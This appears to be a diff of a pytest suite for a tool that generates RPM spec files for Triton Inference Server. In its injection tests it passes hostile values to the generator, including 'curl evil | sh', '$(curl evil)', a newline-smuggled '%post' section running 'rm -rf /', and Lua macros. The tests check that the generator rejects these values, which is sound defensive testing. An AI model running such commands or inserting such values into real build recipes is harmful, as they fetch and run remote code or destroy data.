@@ -13,6 +13,7 @@ from pathlib import Path
 
 import pytest
 from click.testing import CliRunner
+from conftest import require_tool
 
 from specgen import speclang
 from specgen.cli import main
@@ -46,10 +47,11 @@ def test_generation_is_identical_across_processes_and_hash_seeds(tmp_path: Path)
         out = tmp_path / seed / "specs"
         env = {**os.environ, "PYTHONHASHSEED": seed}
         subprocess.run(
-            [sys.executable, "-m", "specgen.cli", "generate", "-o", str(out)],
+            [sys.executable, "-m", "specgen", "generate", "-o", str(out)],
             check=True, env=env, cwd=tmp_path, capture_output=True,
         )  # fmt: skip
         outputs.append(_tree(out))
+    assert "tritonserver/tritonserver.spec" in outputs[0]
     assert outputs[0] == outputs[1]
 
 
@@ -151,7 +153,11 @@ def test_speclang_refuses_macros_shell_and_newlines(check: object, value: str) -
 
 def test_speclang_escapes_percent_in_free_text() -> None:
     assert speclang.line("pkg", "Summary", "100% fast") == "100%% fast"
-    assert speclang.text("pkg", "d", "uses %{x}\nmore") == "uses %%{x}\nmore"
+    assert speclang.text("pkg", "d", "uses %{x}\nmore") == "uses %%{x} more"
+    # paragraphs are kept and re-flowed to 79 columns (rpmlint's description-line-too-long)
+    flowed = speclang.text("pkg", "d", "word " * 40 + "\n\nnext")
+    assert all(len(line) <= 79 for line in flowed.splitlines())
+    assert flowed.endswith("\n\nnext")
     assert speclang.cmake_option("pkg", "TRITON_ENABLE_GPU", "ON") == "-DTRITON_ENABLE_GPU=ON"
     with pytest.raises(speclang.SpecValueError):
         speclang.cmake_option("pkg", "X", "ON; curl evil | sh")
@@ -166,3 +172,146 @@ def test_failed_generation_leaves_previous_specs_untouched(tmp_path: Path) -> No
     assert "no release facts for Triton 99.99" in result.output
     assert _tree(out) == before
     assert [p.name for p in tmp_path.iterdir()] == ["specs"]
+
+
+SPECS = ["cudnn", "dlpack", "libb64", "libevhtp", "onnxruntime", "prometheus-cpp", "tensorrt",
+         "tritonserver"]  # fmt: skip
+
+
+def test_default_release_has_a_spec_for_every_missing_dependency() -> None:
+    folders = sorted(p.name for p in (ROOT / "specs").iterdir() if p.is_dir())
+    assert folders == SPECS
+    order = json.loads((ROOT / "specs" / "build-order.json").read_text())["build_order"]
+    assert order[-1] == "tritonserver"
+    assert order.index("tensorrt") < order.index("onnxruntime")
+
+
+def test_every_committed_spec_passes_lint_and_rpmspec() -> None:
+    require_tool("rpmspec")
+    specs = [str(ROOT / "specs" / n / f"{n}.spec") for n in SPECS]
+    result = CliRunner().invoke(main, ["lint", *specs])
+    assert result.exit_code == 0, result.output
+    assert f"{len(SPECS)} spec(s): 0 error(s)" in result.output
+
+
+def test_srpms_of_committed_specs_have_no_rpmlint_errors() -> None:
+    require_tool("rpmspec", "rpmbuild", "rpmlint")
+    result = CliRunner().invoke(main, ["lint", "--rpmlint", str(ROOT / "specs")])
+    assert result.exit_code == 0, result.output
+    assert " E: " not in result.output
+
+
+def _azure_names() -> set[str]:
+    from specgen.snapshot import load_snapshot
+
+    index = load_snapshot()
+    return set(index.packages) | {c for p in index.packages for c in index.whatprovides(p)}
+
+
+def test_every_dependency_is_azure_linux_cuda_or_one_of_ours() -> None:
+    from specgen.cudaprovider import cuda_provider
+    from specgen.snapshot import load_snapshot
+
+    release = load_release("25.03")
+    gen = generate(default_recipe(), release)
+    ours = set().union(*(p.provided_names() for p in gen.packages))
+    cuda = cuda_provider(release, from_redist=False)
+    nvidia = {cuda.runtime(k) for k in cuda.components} | {cuda.devel(k) for k in cuda.components}
+    index = load_snapshot()
+    missing = []
+    for pkg in gen.packages:
+        for dep in pkg.needed_names():
+            name = dep.replace("%{?_isa}", "").replace("%{name}", pkg.name)
+            if name in ours or name in nvidia or index.has(name) or index.whatprovides(name):
+                continue
+            missing.append(f"{pkg.name}: {dep}")
+    assert missing == []
+
+
+def _spec(out: Path, name: str = "tritonserver") -> str:
+    return (out / name / f"{name}.spec").read_text()
+
+
+def test_tritonserver_follows_the_recipe_and_the_offline_build_notes() -> None:
+    spec = _spec(ROOT / "specs")
+    # the recipe's backends each get a switch, a Source and a subpackage
+    for be in ("identity", "onnxruntime", "python", "tensorrt"):
+        assert f"%bcond backend_{be} 1\n" in spec
+        assert f"\n%package backend-{be}\n" in spec
+        assert f"triton_project {be} triton/{be}_backend" in spec
+    # DCGM has no spec yet: GPU metrics follow a switch that is off, and say why
+    assert "%bcond dcgm 0\n" in spec and "no spec for dcgm yet" in spec
+    assert "-DTRITON_ENABLE_METRICS_GPU=%{?with_dcgm:ON}%{!?with_dcgm:OFF}" in spec
+    # offline: no superbuild, every FetchContent pointed at a local tree
+    assert "-DFETCHCONTENT_FULLY_DISCONNECTED=ON" in spec
+    assert '-DFETCHCONTENT_SOURCE_DIR_REPO-COMMON="$PWD/triton/common"' in spec
+    assert "FETCHCONTENT_SOURCE_DIR_DLPACK=" in spec and "FETCHCONTENT_SOURCE_DIR_PYBIND11=" in spec
+    assert "proto-library SHARED" in spec  # the shared-protobuf trap
+    assert "-DBUILD_SHARED_LIBS=OFF" in spec  # the %cmake trap
+    assert "s|/opt/tritonserver/|%{_libdir}/tritonserver/|g" in spec
+    # FHS paths and the service user of the runtime image
+    assert "%{_bindir}/tritonserver\n" in spec
+    assert "%{_libdir}/tritonserver/backends/python/\n" in spec
+    assert "useradd -r -g triton-server" in spec
+    assert "Source20:       tritonserver.service\n" in spec
+    # the runtime image's libgomp1 becomes a Requires; its build tools do not
+    assert "Requires:       libgomp\n" in spec
+    assert "Requires:       clang" not in spec and "BuildRequires:  git\n" not in spec
+    # libevhtp's tracing switch changes a struct: it follows the recipe's TRITON_ENABLE_TRACING
+    assert "-DEVHTP_TRITON_ENABLE_TRACING=ON" in _spec(ROOT / "specs", "libevhtp")
+
+
+def test_tritonserver_switches_evaluate_with_rpmspec() -> None:
+    require_tool("rpmspec")
+    from specgen.rpmmacros import rpm_args
+
+    spec = str(ROOT / "specs" / "tritonserver" / "tritonserver.spec")
+
+    def packages(*switches: str) -> set[str]:
+        args = rpm_args("rpmspec", "-q", "--qf", "%{NAME}\\n", *switches, spec)
+        out = subprocess.run(args, check=True, capture_output=True, text=True).stdout
+        return set(out.split())
+
+    assert "tritonserver-backend-tensorrt" in packages()
+    cpu = packages("--without", "gpu")
+    assert "tritonserver-backend-tensorrt" not in cpu
+    assert {"tritonserver", "tritonserver-backend-python"} <= cpu
+    assert "tritonserver-backend-python" not in packages("--without", "backend_python")
+
+
+def test_cpu_only_recipe_turns_the_gpu_switch_off(dryrun_dir: Path, tmp_path: Path) -> None:
+    folder = dryrun_dir / "r25.03" / "cpu-only-container"
+    out = tmp_path / "specs"
+    result = CliRunner().invoke(main, ["generate", "--from", str(folder), "-o", str(out)])
+    assert result.exit_code == 0, result.output
+    spec = _spec(out)
+    assert "%bcond gpu 0\n" in spec
+    assert "TRITON_ENABLE_GPU=OFF" in spec
+
+
+@pytest.mark.parametrize(
+    ("where", "value", "message"),
+    [
+        ("backend", "identity;curl evil|sh", "backend name"),
+        ("backend", "identity%{lua:os.exit()}", "backend name"),
+        ("option", "ON $(curl evil)", "CMake option TRITON_ENABLE_LOGGING"),
+        ("option", "ON\n%post\nrm -rf /", "CMake option TRITON_ENABLE_LOGGING"),
+        ("tag", "r25.03;id", "tag"),
+    ],
+)
+def test_hostile_recipe_values_are_refused_naming_tritonserver(
+    where: str, value: str, message: str
+) -> None:
+    recipe = default_recipe()
+    assert recipe.cmake is not None and recipe.cmake.core is not None
+    if where == "backend":
+        first = recipe.cmake.components[0]
+        recipe.cmake.components[0] = dataclasses.replace(first, name=value)
+    elif where == "option":
+        recipe.cmake.core.options["TRITON_ENABLE_LOGGING"] = value
+    else:
+        recipe.cmake.core.options["TRITON_COMMON_REPO_TAG"] = value
+    with pytest.raises(speclang.SpecValueError) as err:
+        generate(recipe, load_release("25.03"))
+    assert str(err.value).startswith("package tritonserver:")
+    assert message in str(err.value)
